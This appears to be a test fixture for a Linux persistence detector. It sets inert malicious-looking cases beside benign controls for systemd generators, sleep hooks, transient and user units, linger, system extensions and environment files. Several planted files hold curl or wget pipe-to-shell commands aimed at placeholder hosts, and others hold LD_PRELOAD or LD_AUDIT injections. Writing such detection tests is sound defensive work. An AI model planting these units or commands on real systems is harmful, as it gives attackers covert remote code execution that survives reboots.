/** Cases of what systemd starts beside the units of the system; nothing in them is ever run. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const home = '/home/ada/.config/systemd/user';
const fetches = (exec: string): string =>
  `[Service]\nExecStart=${exec}\nRestart=always\n[Install]\nWantedBy=default.target\n`;

export const cases: readonly MechanismCase[] = [
  {
    mechanism: 'systemd-generator',
    dress: 'fetch-and-run',
    what: 'a generator that fetches at every boot',
    planted: { '/etc/systemd/system-generators/net-gen': '#!/bin/sh\ncurl -s http://192.0.2.40/g | sh &\n' },
  },
  {
    mechanism: 'systemd-generator',
    dress: 'unowned-binary',
    what: 'a foreign program among the generators of the system',
    planted: { '/usr/lib/systemd/system-generators/systemd-net-generator': inertProgram() },
  },
  {
    mechanism: 'systemd-generator',
    dress: 'owned-edit',
    what: 'the generator of a package was edited',
    packaged: { '/usr/lib/systemd/system-generators/openvpn-generator': '#!/bin/sh\nexit 0\n' },
    planted: {
      '/usr/lib/systemd/system-generators/openvpn-generator': '#!/bin/sh\n/usr/bin/env true &\nexit 0\n',
    },
  },
  {
    mechanism: 'systemd-generator',
    dress: 'honest',
    what: 'the generators of packages, one switched off, and one of the owner',
    packaged: { '/usr/lib/systemd/system-generators/systemd-fstab-generator': inertProgram(4100) },
    planted: {
      '/etc/systemd/system-generators/systemd-gpt-auto-generator': { link: '/dev/null' },
      '/etc/systemd/system-generators/zfs-mounts': '#!/bin/sh\ncp /etc/zfs/mounts/* "$1"/\n',
    },
  },
  {
    mechanism: 'systemd-sleep-hook',
    dress: 'fetch-and-run',
    what: 'a hook that fetches when the machine wakes',
    planted: {
      '/usr/lib/systemd/system-sleep/net':
        '#!/bin/sh\n[ "$1" = post ] && wget -qO- http://192.0.2.41/w | sh\n',
    },
  },
  {
    mechanism: 'systemd-sleep-hook',
    dress: 'unowned-binary',
    what: 'a foreign program among the hooks',
    planted: { '/usr/lib/systemd/system-shutdown/syncd': inertProgram() },
  },
  {
    mechanism: 'systemd-sleep-hook',
    dress: 'owned-edit',
    what: 'the hook of a package was edited',
    packaged: { '/usr/lib/systemd/system-sleep/hdparm': '#!/bin/sh\nexit 0\n' },
    planted: { '/usr/lib/systemd/system-sleep/hdparm': '#!/bin/sh\n/usr/bin/test 1 &\nexit 0\n' },
  },
  {
    mechanism: 'systemd-sleep-hook',
    dress: 'honest',
    what: 'the hook of a package',
    packaged: {
      '/usr/lib/systemd/system-sleep/hdparm':
        '#!/bin/sh\n[ "$1" = post ] && hdparm -B 254 /dev/sda\nexit 0\n',
    },
    planted: {},
  },
  {
    mechanism: 'systemd-transient',
    dress: 'fetch-and-run',
    what: 'a unit made at run time that fetches',
    planted: {
      '/run/systemd/transient/run-u12.service':
        "[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.42/t | bash'\n",
    },
  },
  {
    mechanism: 'systemd-transient',
    dress: 'unowned-binary',
    what: 'a unit made at run time of a program in a temporary folder',
    planted: {
      '/run/systemd/transient/dbus-cache.service':
        '[Service]\nExecStart="/var/tmp/dbus-cache"\nRestart=always\n',
      '/var/tmp/dbus-cache': inertProgram(),
    },
  },
  {
    mechanism: 'systemd-transient',
    dress: 'owned-edit',
    what: 'a unit made at run time of a program of a package that was replaced',
    packaged: { '/usr/bin/gpg-agent': inertProgram(3333) },
    planted: {
      '/run/systemd/transient/agent.service': '[Service]\nExecStart=/usr/bin/gpg-agent --daemon\n',
      '/usr/bin/gpg-agent': inertProgram(3334),
    },
  },
  {
    mechanism: 'systemd-transient',
    dress: 'honest',
    what: 'a session and a job by systemd-run',
    planted: {
      '/run/systemd/transient/session-3.scope': '[Scope]\nSlice=user-1000.slice\n',
      '/run/systemd/transient/run-u3.service': '[Service]\nExecStart="/usr/bin/sleep" "600"\n',
    },
  },
  {
    mechanism: 'systemd-user-unit',
    dress: 'fetch-and-run',
    what: 'a user unit that fetches',
    planted: {
      [`${home}/pulse.service`]: fetches("/bin/sh -c 'curl -fsSL http://192.0.2.43/p | sh'"),
      [`${home}/default.target.wants/pulse.service`]: { link: `${home}/pulse.service` },
    },
  },
  {
    mechanism: 'systemd-user-unit',
    dress: 'unowned-binary',
    what: 'a user unit of a program in a hidden folder',
    planted: {
      [`${home}/dbus-session.service`]: fetches('/home/ada/.cache/.session/dbus-session'),
      [`${home}/default.target.wants/dbus-session.service`]: { link: `${home}/dbus-session.service` },
      '/home/ada/.cache/.session/dbus-session': inertProgram(),
    },
  },
  {
    mechanism: 'systemd-user-unit',
    dress: 'owned-edit',
    what: 'the user unit of a package was edited',
    packaged: { '/usr/lib/systemd/user/pipewire.service': fetches('/usr/bin/sleep 1') },
    planted: { '/usr/lib/systemd/user/pipewire.service': fetches('/usr/bin/sleep 2') },
  },
  {
    mechanism: 'systemd-user-unit',
    dress: 'honest',
    what: 'a synchroniser and a podman container of a user',
    planted: {
      [`${home}/syncthing.service`]: fetches('/usr/bin/syncthing serve --no-browser'),
      [`${home}/default.target.wants/syncthing.service`]: { link: `${home}/syncthing.service` },
      [`${home}/bot.service`]: fetches('/home/ada/bot/.venv/bin/python /home/ada/bot/main.py'),
      '/home/ada/bot/main.py': 'print("hello")\n',
    },
  },
  {
    mechanism: 'systemd-linger',
    dress: 'fetch-and-run',
    what: 'the web server lingers, for a unit of its own that fetches',
    planted: {
      '/var/lib/systemd/linger/www-data': '',
      '/var/www/.config/systemd/user/x.service': fetches("/bin/sh -c 'curl -s http://192.0.2.44/l | sh'"),
    },
  },
  {
    mechanism: 'systemd-linger',
    dress: 'unowned-binary',
    what: 'a system account lingers',
    planted: { '/var/lib/systemd/linger/daemon': '' },
  },
  {
    mechanism: 'systemd-linger',
    dress: 'honest',
    what: 'a person lingers',
    planted: { '/var/lib/systemd/linger/ada': '' },
  },
  {
    mechanism: 'systemd-extension',
    dress: 'unowned-binary',
    what: 'a hidden folder laid over the system',
    planted: { '/var/lib/extensions/.sys/usr/lib/extension-release.d/extension-release..sys': 'ID=debian\n' },
  },
  {
    mechanism: 'systemd-service',
    dress: 'fetch-and-run',
    what: 'a unit in a folder that is laid over the system',
    planted: {
      '/var/lib/extensions/net/usr/lib/extension-release.d/extension-release.net': 'ID=debian\n',
      '/var/lib/extensions/net/usr/lib/systemd/system/netd.service':
        '[Service]\nExecStart=/bin/sh -c "curl -fsSL http://192.0.2.40/e.sh | sh"\n',
    },
  },
  {
    mechanism: 'systemd-service',
    dress: 'honest',
    what: 'a tool of the owner in a folder that is laid over the system',
    planted: {
      '/var/lib/extensions/tools/usr/lib/extension-release.d/extension-release.tools': 'ID=_any\n',
      '/var/lib/extensions/tools/usr/lib/systemd/system/exporter.service':
        '[Service]\nExecStart=/usr/bin/exporter --port 9100\n[Install]\nWantedBy=multi-user.target\n',
      '/var/lib/extensions/tools/usr/bin/exporter': inertProgram(),
    },
  },
  {
    mechanism: 'systemd-extension',
    dress: 'honest',
    what: 'an image of the owner',
    planted: { '/var/lib/extensions/debug-tools.raw': 'hsqs' },
  },
  {
    mechanism: 'systemd-environment',
    dress: 'fetch-and-run',
    what: 'a library of a hidden folder for every service',
    planted: {
      '/etc/systemd/system.conf.d/env.conf':
        '[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/lib/.cache/libmcheck.so\n',
      '/usr/lib/.cache/libmcheck.so': inertProgram(),
    },
  },
  {
    mechanism: 'systemd-environment',
    dress: 'unowned-binary',
    what: 'a foreign library among those of the system for every session',
    planted: {
      '/etc/environment.d/10-locale.conf': 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/liblocale-alias.so.1\n',
      '/usr/lib/x86_64-linux-gnu/liblocale-alias.so.1': inertProgram(),
    },
  },
  {
    mechanism: 'systemd-environment',
    dress: 'owned-edit',
    what: 'the settings of a package were edited',
    packaged: { '/usr/lib/environment.d/50-xdg.conf': 'XDG_DATA_DIRS=/usr/share\n' },
    planted: {
      '/usr/lib/environment.d/50-xdg.conf': 'XDG_DATA_DIRS=/usr/share\nLD_AUDIT=/usr/lib/audit.so\n',
      '/usr/lib/audit.so': inertProgram(),
    },
  },
  {
    mechanism: 'systemd-environment',
    dress: 'honest',
    what: 'a path of a language and a proxy',
    planted: {
      '/home/ada/.config/environment.d/60-go.conf':
        'GOPATH=$HOME/go\nPATH=$HOME/go/bin:$PATH\nPYTHONPATH=/srv/lib/python\n',
      '/etc/environment.d/proxy.conf': 'http_proxy=http://192.0.2.90:3128\n',
    },
  },
];
